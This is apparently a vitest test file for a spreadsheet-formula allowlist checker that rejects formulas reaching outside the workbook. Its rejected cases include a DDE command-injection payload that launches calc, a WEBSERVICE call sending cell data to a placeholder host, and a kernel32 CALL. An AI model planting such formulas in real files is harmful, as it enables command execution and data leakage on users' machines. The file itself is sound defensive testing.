import fc from 'fast-check';
import { expect, test } from 'vitest';
import { isPlainFormula } from '../../../electron/data/workbook/write/annotated/plain-formula';

test.each([
  'SUM(C4:C7)',
  'IF(\'Biểu 01\'!D9>C9,"tăng [1] | xem","không")',
  'ROUND(_xlfn.XLOOKUP(A1,B:B,C:C),0)',
  "SUM(Bảng1[[#This Row],[Số '[vụ']]],Table1[Năm])",
  "'Số ''gốc'''!B2*2",
  '1+2',
  '#REF!',
  'TongSo/100%',
  'sum( A1 , if (B1=0,1,2))',
])('keeps a formula that only calculates: %s', (formula) => {
  expect(isPlainFormula(formula)).toBe(true);
});

test.each([
  "cmd|' /c calc'!A1",
  "'cmd|x'!A1",
  '[1]Sheet1!A1',
  "'[2]Sổ cái'!A1+1",
  "'C:\\data\\[nguon.xlsx]Trang1'!A1",
  'SUM(A1,[3]S!B2)',
  'WEBSERVICE("http://example.invalid/"&A1)',
  '_xlfn.WEBSERVICE(A1)',
  'HYPERLINK("http://example.invalid/")',
  'hyperlink ("x")',
  'IMAGE(A1)',
  'RTD("x",,"y")',
  'DDE("soffice","x","y")',
  'CALL("kernel32","x")',
  'CUBEVALUE("a","b")',
  'MyMacro(A1)',
  'IF(A1,"chưa đóng',
  'Table1[Năm',
])('does not keep a formula that reaches outside or is unknown: %s', (formula) => {
  expect(isPlainFormula(formula)).toBe(false);
});

test('does not keep a formula with a name that is gone', () => {
  expect(isPlainFormula('Ngoai+1', new Set(['NGOAI']))).toBe(false);
});

test('decides over any text, and never keeps an unknown call around a formula', () => {
  fc.assert(
    fc.property(fc.string(), (formula) => {
      isPlainFormula(formula);
      expect(isPlainFormula(`NOBODYKNOWS(${formula})`)).toBe(false);
    }),
  );
});
